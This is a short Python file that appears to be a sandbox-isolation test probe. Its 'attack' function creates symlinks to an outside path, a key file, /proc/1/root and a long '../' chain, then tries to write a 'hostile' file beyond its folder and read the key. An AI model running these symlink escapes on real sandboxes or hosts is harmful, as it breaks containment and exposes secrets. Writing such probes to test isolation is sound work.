"""Leaves its folder through symbolic links, to write and to read."""

import os


def attack(world: dict[str, str]) -> str:
    os.symlink(world["outside"], "out")
    os.symlink(world["key"], "key")
    os.symlink("/proc/1/root", "root")
    os.symlink("../../../../../../../../", "up")
    for path in ("out/hostile", f"root{world['outside']}/hostile", f"up{world['outside']}/hostile"):
        try:
            with open(path, "w") as file:
                file.write("here")
            return f"escaped: wrote {path}"
        except OSError:
            continue
    for path in ("key", f"root{world['key']}", f"up{world['key']}"):
        try:
            with open(path) as file:
                return f"escaped: {file.read()}"
        except OSError:
            continue
    return "contained: the links lead nowhere"
